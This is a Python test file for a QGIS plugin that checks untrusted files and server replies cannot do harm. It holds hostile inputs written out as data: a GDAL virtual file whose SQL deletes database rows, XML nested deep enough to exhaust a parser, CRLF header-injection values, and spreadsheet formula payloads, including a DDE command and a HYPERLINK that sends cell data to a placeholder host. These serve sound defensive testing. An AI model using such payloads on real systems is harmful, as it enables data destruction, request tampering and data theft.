"""What comes from elsewhere to act, or to grow, when the layer in it is loaded: the run has its sentence, and nothing else happened."""

import csv
import json
import re
import zipfile
from contextlib import suppress

import pytest
from opgavenkaart.processing.model.errors import OpgaveError
from opgavenkaart.processing.model.store import Validators
from opgavenkaart.processing.sources.harvest import gather
from opgavenkaart.processing.sources.loading import load_record
from opgavenkaart.processing.sources.network import fetch
from opgavenkaart.processing.sources.store.source_states import asks_of
from opgavenkaart.test.support import servers
from opgavenkaart.test.support.headless import ROOT
from opgavenkaart.test.support.layers import memory_layer, record
from opgavenkaart.test.support.running import run_algorithm
from opgavenkaart.test.support.servers_replay import JSON, XML, Answer, replay
from qgis.core import QgsProcessingException

DEEP = b"<wfs:FeatureCollection xmlns:wfs='http://www.opengis.net/wfs/2.0'>" + b"<a>" * 200_000 + b"</a>" * 200_000


@pytest.fixture(scope="module")
def officers():
    """A database whose rows the officer may delete, and a virtual file whose SQL does so when it is opened."""
    with servers.postgis() as database:
        database.run("CREATE TABLE public.officers (n integer); INSERT INTO officers VALUES (1), (2)")
        where = f"PG:host=127.0.0.1 port={database.port} dbname=postgres user={servers.USER} password={servers.PASSWORD}"
        sql = "<SrcSQL>DELETE FROM officers RETURNING n</SrcSQL>"
        layer = f"<OGRVRTLayer name='a'><SrcDataSource>{where}</SrcDataSource>{sql}</OGRVRTLayer>"
        yield database, f"<OGRVRTDataSource>{layer}</OGRVRTDataSource>"


def rows_left(database) -> bool:
    """Whether both rows are there still; the database itself says so."""
    with suppress(Exception):
        database.run("DO $$ BEGIN ASSERT (SELECT count(*) FROM officers) = 2; END $$")
        return True
    return False


@pytest.mark.parametrize("name", ["a.geojson", "a.csv", "a.xlsx", "a.gpkg", "a.shp", "a.json"])
def test_a_file_runs_no_sql_in_a_database(qgis_processing, officers, tmp_path, name):
    """By a record, a harvest of its folder, and as an input of an algorithm; QGIS's own GDAL would run it."""
    database, virtual = officers
    kinds = {"csv": "csv", "xlsx": "excel", "gpkg": "gpkg", "shp": "shapefile", "json": "json"}
    (tmp_path / name).write_text(virtual, encoding="utf-8")
    with pytest.raises(OpgaveError):
        load_record(record(kinds.get(name.partition(".")[2], "geojson"), tmp_path / name))
    with suppress(OpgaveError):
        gather(str(tmp_path), "folder")
    with pytest.raises(QgsProcessingException):
        run_algorithm("assess_quality", {"INPUT": str(tmp_path / name), "OUTPUT": "memory:"})
    assert rows_left(database)


@pytest.mark.parametrize("kind", ["geojson", "csv", "gpkg", "excel"])
def test_nor_does_the_answer_of_a_server(qgis_app, officers, kind):
    database, virtual = officers
    with replay({"/parken": Answer(virtual.encode(), JSON)}) as server, pytest.raises(OpgaveError):
        load_record(record(kind, f"{server.url}/parken"))
    assert rows_left(database)


@pytest.mark.parametrize("answer", [DEEP, b"<WFS_Capabilities>" * 50_000])
def test_a_service_that_nests_without_end_ends_no_run(qgis_processing, tmp_path, answer):
    """The run of a whole catalogue: the other layer is loaded, and this one has its sentence."""
    (tmp_path / "trees.csv").write_text("code;n\na;1\n", encoding="utf-8")
    head = {"publisher": {"name": "Stad", "kind": "city"}, "redistribution": "yes"}
    with replay({"/wfs": Answer(answer, XML)}) as server:
        source = {"kind": "wfs", "path": f"{server.url}/wfs", "layer": "a"}
        parks = {"id": "parks", "title": {"nl": "Parken"}, "geometry": "polygon", "source": source}
        trees = {"id": "trees", "title": {"nl": "Bomen"}, "geometry": "none", "source": {"kind": "csv", "path": "trees.csv"}}
        (tmp_path / "c.json").write_text(json.dumps({"records": [head | parks, head | trees]}), encoding="utf-8")
        asked = {"CATALOGUE": str(tmp_path / "c.json"), "RECORDS": "parks,trees", "ON_ERROR": "continue"}
        ran = run_algorithm("load_layers", {**asked, "OUTPUT": str(tmp_path / "out.gpkg")})
    assert (ran["FEATURE_COUNT"], ran["FAILED_COUNT"]) == (1, 1)
    assert len([text for text in ran.warnings if "gives XML with more elements, or more within each other" in text]) == 1


@pytest.mark.parametrize("mark", ['x"\r\nX-Injected: 1', "x\nX-Injected: 1", "€", "\x00"])
def test_what_a_store_kept_of_a_server_is_no_header_of_its_own(qgis_app, tmp_path, mark):
    """``checked.json`` of a store says with which ETag to ask: whoever may write the store would write the request."""
    with replay({"/a.csv": Answer(b"a\n1\n", "text/csv")}) as server:
        asks = asks_of(record("csv", f"{server.url}/a.csv"), Validators(etag=mark, last_modified=mark), tmp_path / "new")
        assert fetch(asks[0]).status == 200
        ((_, _, headers),) = server.requests
    assert "x-injected" not in headers and not any("\n" in text for text in headers.values())


def test_a_table_of_columns_without_end(qgis_app, tmp_path):
    (tmp_path / "wide.csv").write_text("sector" + ";a" * 6000 + "\n1" + ";1" * 6000 + "\n", encoding="utf-8")
    with pytest.raises(OpgaveError, match="has 6001 columns; at most 5000 can be read"):
        load_record(record("csv", tmp_path / "wide.csv", geometry="none"))


DDE = "cmd|' /C calc'!A0"
FORMULAS = ['=HYPERLINK("http://x/?"&A1)', "@SUM(A1)", f"+{DDE}", f"-2+{DDE}", 'of:=WEBSERVICE("http://x/")', "\t=1+1"]
TEXTS = ["+32 9 123 45 67", "- geen -", "a=b", "-5"]


@pytest.mark.parametrize("ending", ["csv", "ods"])
def test_a_cell_that_a_spreadsheet_would_compute_stays_a_text(qgis_processing, tmp_path, ending):
    """A name in a layer of somebody else, in a file that an officer opens with a spreadsheet; what is honest stays letter for letter."""
    values = [*FORMULAS, *TEXTS]
    places = memory_layer("Point", [(f"POINT({100_000 + n} 190000)", text) for n, text in enumerate(values)], "naam:string")
    units = memory_layer("Polygon", [("POLYGON((0 0, 200000 0, 200000 200000, 0 200000, 0 0))", text) for text in values], "naam:string")
    path = tmp_path / f"out.{ending}"
    run_algorithm("aggregate_to_units", {"INPUT": places, "UNITS": units, "OUTPUT": str(path)})
    if ending == "ods":
        with zipfile.ZipFile(path) as archive:
            text = archive.read("content.xml").decode()
        assert "table:formula" not in text and "WEBSERVICE" in text
        return
    with path.open(encoding="utf-8", newline="") as file:
        read = [row["naam"] for row in csv.DictReader(file)]
    assert read == [*(f"'{text}" for text in FORMULAS), *TEXTS]


def test_every_page_has_a_policy_that_lets_nothing_else_run():
    pages = {path.name: path.read_text(encoding="utf-8") for path in (ROOT / "resources" / "templates").glob("*.html")}
    whole = {name: text for name, text in pages.items() if "<html" in text}
    assert "web_map.html" in whole and len(whole) == 5
    for name, text in whole.items():
        (policy,) = re.findall('<meta http-equiv="Content-Security-Policy" content="([^"]*)">', text)
        rules = dict(rule.strip().partition(" ")[::2] for rule in policy.split(";"))
        assert rules["default-src"] == "'none'", name
        assert rules.get("script-src", "'self' file:") == "'self' file:", name
